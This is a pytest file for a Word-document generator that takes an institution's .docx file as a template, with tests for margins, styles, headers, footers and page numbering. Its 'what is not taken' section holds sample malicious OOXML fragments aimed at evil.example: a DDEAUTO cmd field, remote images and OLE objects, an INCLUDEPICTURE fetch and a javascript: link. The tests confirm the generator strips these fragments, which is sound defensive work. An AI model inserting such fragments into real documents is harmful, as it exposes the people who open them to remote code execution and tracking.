"""An institution's own Word file as template: its styles, headers, footers and page."""

from __future__ import annotations

import io
import json
import re
import zipfile
from pathlib import Path
from typing import Any

import docx
import pytest
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from docx.shared import Mm, Pt
from lxml import etree
from openxml_audit import OpenXmlValidator

from tests.contents import whole
from tests.formats.docx.conftest import lint
from tests.formats.docx.faults import zipped
from tests.formats.docx.read_text import W
from tests.samples import png
from warraq import Result, WarraqError, render
from warraq.cli import main

ISSUER = "وزارة سهيل"


def element(name: str, **attributes: str) -> Any:
    made = OxmlElement(f"w:{name}")
    for key, value in attributes.items():
        made.set(qn(f"w:{key}"), value)
    return made


def add(paragraph: Any, text: str) -> None:
    paragraph._p.get_or_add_pPr().append(element("bidi"))
    paragraph.add_run(text)._r.get_or_add_rPr().append(element("rtl"))


def add_field(paragraph: Any, code: str, shown: str = "1") -> None:
    for name, content in (
        ("fldChar", "begin"), ("instrText", code), ("fldChar", "separate"), ("t", shown),
        ("fldChar", "end"),
    ):  # fmt: skip
        run = paragraph.add_run()._r
        run.get_or_add_rPr().append(element("rtl"))
        child = element(name, fldCharType=content) if name == "fldChar" else element(name)
        if name != "fldChar":
            child.text = content
        run.append(child)


def letterhead(*, numbered: bool = True) -> Any:
    """A letterhead with a logo on the first page, such as an office has."""
    file = docx.Document()
    section = file.sections[0]
    section.page_width, section.page_height = Mm(210), Mm(297)
    section.left_margin, section.right_margin, section.top_margin = Mm(20), Mm(30), Mm(45)
    section.different_first_page_header_footer = True
    add(section.first_page_header.paragraphs[0], ISSUER)
    picture = io.BytesIO(png())
    section.first_page_header.paragraphs[0].add_run().add_picture(picture, width=Mm(20))
    add(section.header.paragraphs[0], "تابع")
    add(section.first_page_footer.paragraphs[0], "ص.ب 1234")
    if numbered:
        add_field(section.footer.paragraphs[0], "PAGE")
    heading = file.styles["Heading 1"]
    heading.font.size = Pt(17)
    numbering = element("numPr")
    numbering.append(element("numId", val="7"))
    heading.element.get_or_add_pPr().append(numbering)
    # Arabic Word gives styles other identifiers than English Word does.
    heading.element.set(qn("w:styleId"), "1")
    for named in file.styles.element.iter(qn("w:link"), qn("w:basedOn")):
        if named.get(qn("w:val")) == "Heading1":
            named.set(qn("w:val"), "1")
    return file


def save(file: Any, path: Path) -> Path:
    file.save(path)
    return path


@pytest.fixture(scope="module")
def reference(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return save(letterhead(), tmp_path_factory.mktemp("house") / "letterhead.docx")


def made(reference: Path, kind: str = "memo", lang: str = "ar", **options: Any) -> Result:
    return render(whole(), kind, "docx", lang, options={"reference_doc": reference, **options})


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def bands(data: bytes) -> dict[tuple[str, str], Any]:
    """The roots of headers and footers by what they are and of which pages."""
    found = parts(data)
    relations = etree.fromstring(found["word/_rels/document.xml.rels"])
    targets = {one.get("Id"): one.get("Target") for one in relations}
    section = etree.fromstring(found["word/document.xml"]).find(f".//{W}sectPr")
    assert section is not None
    named = {}
    for reference in section.iter(f"{W}headerReference", f"{W}footerReference"):
        what = etree.QName(reference).localname.removesuffix("Reference")
        root = etree.fromstring(found[f"word/{targets[reference.get(qn('r:id'))]}"])
        named[what, str(reference.get(f"{W}type"))] = root
    return named


def text(root: Any) -> str:
    return "".join(root.itertext(f"{W}t"))


def codes(root: Any) -> list[str]:
    return [code.text.strip() for code in root.iter(f"{W}instrText")]


# --- what is taken -------------------------------------------------------------------------------


def test_the_page_is_that_of_the_file(reference: Path) -> None:
    body = parts(made(reference).data)["word/document.xml"].decode()
    margins = dict(re.findall(r'w:(\w+)="(\d+)"', re.findall(r"<w:pgMar[^>]*>", body)[0]))
    assert (margins["left"], margins["right"], margins["top"]) == ("1134", "1701", "2551")
    assert "<w:titlePg" in body


def test_styles_are_found_by_their_names(reference: Path) -> None:
    result = made(reference)
    found = parts(result.data)
    assert b'<w:pStyle w:val="1"/>' in found["word/document.xml"]
    styles: Any = etree.fromstring(found["word/styles.xml"])
    (heading,) = (s for s in styles.iter(f"{W}style") if s.get(f"{W}styleId") == "1")
    assert heading.find(f"{W}rPr/{W}sz").get(f"{W}val") == "34"
    # Our headings bring their numbers.
    assert heading.find(f"{W}pPr/{W}numPr") is None
    known = {style.get(f"{W}styleId") for style in styles.iter(f"{W}style")}
    body = etree.fromstring(found["word/document.xml"])
    assert {
        s.get(f"{W}val") for s in body.iter(f"{W}pStyle", f"{W}rStyle", f"{W}tblStyle")
    } <= known


def test_a_role_without_a_style_takes_its_parents_and_is_told(reference: Path) -> None:
    found = [one for one in made(reference).diagnostics if one.code == "docx.role-fallback"]
    told = {one.params["role"]: one.params["name"] for one in found}
    assert told["memo.salutation"] == "Salutation"
    assert "heading.1" not in told
    assert "list.item" not in told


def test_headers_and_footers_are_those_of_the_file(reference: Path) -> None:
    data = made(reference).data
    found = bands(data)
    assert ISSUER in text(found["header", "first"])
    assert "تابع" in text(found["header", "default"])
    assert "ص.ب 1234" in text(found["footer", "first"])
    assert parts(data)["word/media/image1.png"] == png()


def test_the_classification_stands_on_every_page_all_the_same(reference: Path) -> None:
    found = bands(made(reference).data)
    assert len(found) == 4
    for root in found.values():
        mark = next(p for p in root.iter(f"{W}p") if text(p) == "محدود التداول")
        assert mark.find(f"{W}r/{W}rPr/{W}rStyle").get(f"{W}val") == "Strong"


def test_text_does_not_begin_close_under_what_we_add(reference: Path) -> None:
    """The last paragraph of each header, and the first of each footer, is room."""
    for (what, _), root in bands(made(reference).data).items():
        spacing = root[-1 if what == "header" else 0].find(f"{W}pPr/{W}spacing")
        assert int(spacing.get(f"{W}line")) >= 120


def test_our_letterhead_makes_room_but_for_its_fields(reference: Path) -> None:
    body = etree.fromstring(parts(made(reference).data)["word/document.xml"])
    assert "إدارة المياه" not in text(body)
    assert "W/2026/7" in text(body)


def test_a_file_without_header_leaves_ours(tmp_path: Path) -> None:
    plain = save(docx.Document(), tmp_path / "plain.docx")
    body = etree.fromstring(parts(made(plain).data)["word/document.xml"])
    assert "إدارة المياه" in text(body)


def test_pages_are_numbered_once(reference: Path, tmp_path: Path) -> None:
    assert codes(bands(made(reference).data)["footer", "default"]) == ["PAGE"]
    without = save(letterhead(numbered=False), tmp_path / "without.docx")
    assert codes(bands(made(without).data)["footer", "default"]) == ["PAGE", "NUMPAGES"]


def test_even_pages_have_their_own(tmp_path: Path) -> None:
    file = letterhead()
    file.settings.odd_and_even_pages_header_footer = True
    add(file.sections[0].even_page_header.paragraphs[0], "زوجية")
    data = made(save(file, tmp_path / "even.docx")).data
    assert "زوجية" in text(bands(data)["header", "even"])
    assert b"<w:evenAndOddHeaders/>" in parts(data)["word/settings.xml"]


def test_a_draft_is_marked(reference: Path) -> None:
    content = whole()
    content["meta"]["status"] = "draft"
    options = {"reference_doc": str(reference)}
    found = bands(render(content, "memo", "docx", "ar", options=options).data)
    for (what, _), root in found.items():
        assert (b"PowerPlusWaterMark" in etree.tostring(root)) == (what == "header")


@pytest.mark.full
@pytest.mark.parametrize(
    ("kind", "lang"), [("memo", "ar"), ("memo", "en"), ("briefing", "ar"), ("factsheet", "ar+en")]
)
def test_what_is_made_is_valid(kind: str, lang: str, reference: Path, tmp_path: Path) -> None:
    content = whole()
    content["meta"]["contents"] = "yes"
    data = render(content, kind, "docx", lang, options={"reference_doc": reference}).data
    path = tmp_path / "made.docx"
    path.write_bytes(data)
    assert [str(error) for error in OpenXmlValidator().validate(path).errors] == []
    # Word's own title sets letters apart, and its styles name no Arabic sizes: the file's business.
    assert {one.code for one in lint(data)} <= {"rtl.spacing-style"}


def test_our_own_file_as_the_template_of_itself(tmp_path: Path) -> None:
    """How a house style begins: a memo of ours, its styles changed in Word."""
    path = tmp_path / "ours.docx"
    path.write_bytes(render(whole(), "memo", "docx", "ar").data)
    result = made(path)
    assert [one for one in result.diagnostics if one.code == "docx.role-fallback"] == []
    assert lint(result.data) == []
    assert result.data == made(path).data


# --- what is not taken ---------------------------------------------------------------------------


def with_header(path: Path, put_in: str, relation: str = "") -> Path:
    """The letterhead with some XML at the end of its first page's header."""
    buffer = io.BytesIO()
    letterhead().save(buffer)
    found = parts(buffer.getvalue())
    name = next(n for n, data in found.items() if ISSUER.encode() in data)
    found[name] = found[name].replace(b"</w:hdr>", put_in.encode() + b"</w:hdr>")
    if relation:
        rels = f"word/_rels/{Path(name).name}.rels"
        found[rels] = found[rels].replace(b"</Relationships>",
                                          relation.encode() + b"</Relationships>")  # fmt: skip
    path.write_bytes(zipped(found))
    return path


TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HARM = {
    "a picture from the net": (
        ('<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
        '<v:imagedata r:id="x1"/></v:shape></w:pict></w:r></w:p>'),
        (f'<Relationship Id="x1" Type="{TYPES}/image" Target="http://evil.example/a.png" '
        'TargetMode="External"/>'),
    ),
    "an embedded object": (
        ('<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        'r:id="x1"/></w:object></w:r></w:p>'),
        (f'<Relationship Id="x1" Type="{TYPES}/oleObject" Target="http://evil.example/a.bin" '
        'TargetMode="External"/>'),
    ),
    "a field that fetches": (
        ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE'
        '</w:instrText></w:r><w:r><w:instrText>PICTURE "http://evil.example/a.png"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'), "",
    ),
    "a simple field that runs": (
        ('<w:p><w:fldSimple w:instr="DDEAUTO cmd evil.example"><w:r><w:t>shown</w:t></w:r>'
        "</w:fldSimple></w:p>"), "",
    ),
    "another file": (
        '<w:altChunk r:id="x1"/>',
        f'<Relationship Id="x1" Type="{TYPES}/aFChunk" Target="evil.example.html"/>',
    ),
    "a link that runs": (
        '<w:p><w:hyperlink r:id="x1"><w:r><w:t>shown</w:t></w:r></w:hyperlink></w:p>',
        (f'<Relationship Id="x1" Type="{TYPES}/hyperlink" Target="javascript:evil.example" '
        'TargetMode="External"/>'),
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", HARM)
def test_what_runs_or_loads_is_left_out_and_told(name: str, tmp_path: Path) -> None:
    put_in, relation = HARM[name]
    result = made(with_header(tmp_path / "harm.docx", put_in, relation))
    assert not [part for part, data in parts(result.data).items() if b"evil.example" in data]
    assert "docx.reference-dropped" in {one.code for one in result.diagnostics}
    header = bands(result.data)["header", "first"]
    assert ISSUER in text(header)
    assert ("shown" in text(header)) == ("shown" in put_in)


def test_what_is_left_is_valid(tmp_path: Path) -> None:
    elements, relations = zip(*HARM.values(), strict=True)
    numbered = (re.sub("x1", f"x{n}", one) for n, one in enumerate(elements))
    related = (re.sub("x1", f"x{n}", one) for n, one in enumerate(relations))
    path = with_header(tmp_path / "harm.docx", "".join(numbered), "".join(related))
    data = made(path).data
    path.write_bytes(data)
    assert [str(error) for error in OpenXmlValidator().validate(path).errors] == []


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"%PDF", "docx.broken"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "docx.compound"),
        (zipped({"word/document.xml": b"<workbook/>"}), "docx.broken"),
        (zipped({"word/document.xml": f'<w:document xmlns:w="{W[1:-1]}"/>'.encode()}),
         "docx.part-missing"),
    ],
)  # fmt: skip
def test_a_file_that_is_none_is_told(data: bytes, code: str, tmp_path: Path) -> None:
    path = tmp_path / "none.docx"
    path.write_bytes(data)
    with pytest.raises(WarraqError) as error:
        made(path)
    assert [(one.code, one.place.file) for one in error.value.errors] == [(code, str(path))]


def test_a_file_that_is_not_there_is_told(tmp_path: Path) -> None:
    with pytest.raises(WarraqError) as error:
        made(tmp_path / "nothing.docx")
    assert [one.code for one in error.value.errors] == ["source.not-found"]


def test_the_command_line_takes_the_file(reference: Path, tmp_path: Path) -> None:
    content = tmp_path / "content.json"
    content.write_text(json.dumps(whole()), encoding="utf-8")
    out = tmp_path / "memo.docx"
    given = ["memo", content, "-o", out, "--lang", "ar", "--reference-doc", reference]
    assert main([str(one) for one in given]) == 0
    assert ISSUER in text(bands(out.read_bytes())["header", "first"])


def test_options_that_a_reference_document_overrules_are_told(reference: Path) -> None:
    result = made(reference, paper="A5", two_sided="true")
    told = [one for one in result.diagnostics if one.code == "docx.setting-of-reference"]
    assert [one.params["word"] for one in told] == ["paper", "two_sided"]
    assert parts(result.data)["word/settings.xml"].count(b"mirrorMargins") == 0


def test_a_rule_beside_a_style_changes_sides_with_the_paragraph(tmp_path: Path) -> None:
    file = docx.Document()
    rules = element("pBdr")
    rules.append(element("left", val="single", sz="8", color="FF0000"))
    file.styles["Quote"].element.get_or_add_pPr().append(rules)
    path = tmp_path / "letterhead.docx"
    file.save(str(path))
    for lang, side in (("ar", ["right"]), ("en", [])):
        data = render(whole(), "memo", "docx", lang, options={"reference_doc": str(path)}).data
        styled = [p for p in docx.Document(io.BytesIO(data)).element.body.iter(qn("w:pStyle"))
                  if p.get(qn("w:val")) == "Quote"]  # fmt: skip
        found = styled[0].getparent().findall(qn("w:pBdr"))
        assert [etree.QName(rule).localname for rules in found for rule in rules] == side


def test_an_earlier_output_of_ours_says_nothing_twice(tmp_path: Path) -> None:
    path = tmp_path / "last.docx"
    render(whole(), "memo", "docx", "ar").save(path)
    made = render(whole(), "memo", "docx", "ar", options={"reference_doc": str(path)})
    section = docx.Document(io.BytesIO(made.data)).sections[0]
    for band in (section.first_page_header, section.header, section.first_page_footer):
        said = [paragraph.text for paragraph in band.paragraphs]
        assert said.count("محدود التداول") == 1, said
    body = docx.Document(io.BytesIO(made.data)).element.body
    assert "هيئة الواحة" in "".join(body.itertext())
